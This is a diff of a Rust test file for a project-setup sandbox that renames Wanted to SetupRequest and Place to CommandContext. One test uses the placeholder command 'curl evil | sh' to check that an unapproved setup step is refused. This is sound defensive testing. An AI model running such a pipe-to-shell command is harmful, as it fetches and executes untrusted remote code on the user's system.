@@ -54,11 +54,11 @@ fn plan() -> Plan {
 
 impl Bench {
     async fn set_up(&self, run: &str, seq: u64, parent: Option<&str>) -> Performed<SetUp> {
-        self.set_up_by(run, seq, Wanted::new("p".to_owned(), parent.map(str::to_owned), json!({}))).await
+        self.set_up_by(run, seq, SetupRequest::new("p".to_owned(), parent.map(str::to_owned), json!({}))).await
     }
 
-    async fn set_up_by(&self, run: &str, seq: u64, wanted: Wanted) -> Performed<SetUp> {
-        let place = Place { run: RunId::from_text(run), workspace: self.workspace(), halt: self.halt.clone() };
+    async fn set_up_by(&self, run: &str, seq: u64, wanted: SetupRequest) -> Performed<SetUp> {
+        let place = CommandContext { run: RunId::from_text(run), workspace: self.workspace(), halt: self.halt.clone() };
         let attempt = Attempt { seq, key: format!("{run}:{seq}"), again: false, asked_at: 7 };
         self.sandbox.set_up(place, wanted, &attempt).await
     }
@@ -152,7 +152,7 @@ async fn a_setup_that_fails_is_the_operators_and_is_begun_again() {
 #[tokio::test]
 async fn a_setup_that_nobody_approved_is_not_executed() {
     let bench = project(install, exited(0));
-    let wanted = |setup: &str| Wanted::new("p".to_owned(), None, json!({ "setup": setup, "setup-files": ["*.lock"] }));
+    let wanted = |setup: &str| SetupRequest::new("p".to_owned(), None, json!({ "setup": setup, "setup-files": ["*.lock"] }));
     let told = reason(bench.set_up_by("r", 1, wanted("curl evil | sh")).await);
     assert!(told.contains("`curl evil | sh`") && told.contains("baton project setup approve"), "{told}");
     bench.memory.approvals.lock().unwrap().clear();
@@ -182,7 +182,7 @@ async fn caches_go_from_setup_to_setup_of_a_project_and_no_further() {
     set_up(bench.set_up("r", 2, None).await);
     assert_eq!(fetched(&bench), "xx", "what was fetched before is there");
     assert!(bench.sandbox.setups_of(&bench.workspace()).env.contains_key("CARGO_HOME"));
-    set_up(bench.set_up_by("r", 3, Wanted::new("another project".to_owned(), None, json!({}))).await);
+    set_up(bench.set_up_by("r", 3, SetupRequest::new("another project".to_owned(), None, json!({}))).await);
     assert_eq!(fetched(&bench), "x", "another project begins with nothing");
     fs::write(bench.workspace().join("a.lock"), "1").unwrap();
     set_up(bench.set_up("r", 4, None).await);
@@ -221,9 +221,9 @@ fn locking(ending: Result<Ended, EngineError>) -> Bench {
 
 impl Bench {
     async fn renew(&self, seq: u64) -> Performed<SetUp> {
-        let place = Place { run: RunId::from_text("r"), workspace: self.workspace(), halt: self.halt.clone() };
+        let place = CommandContext { run: RunId::from_text("r"), workspace: self.workspace(), halt: self.halt.clone() };
         let attempt = Attempt { seq, key: format!("r:{seq}"), again: false, asked_at: 7 };
-        self.sandbox.renew_lockfiles(place, Wanted::new("p".to_owned(), None, json!({})), &attempt).await
+        self.sandbox.renew_lockfiles(place, SetupRequest::new("p".to_owned(), None, json!({})), &attempt).await
     }
 }
 
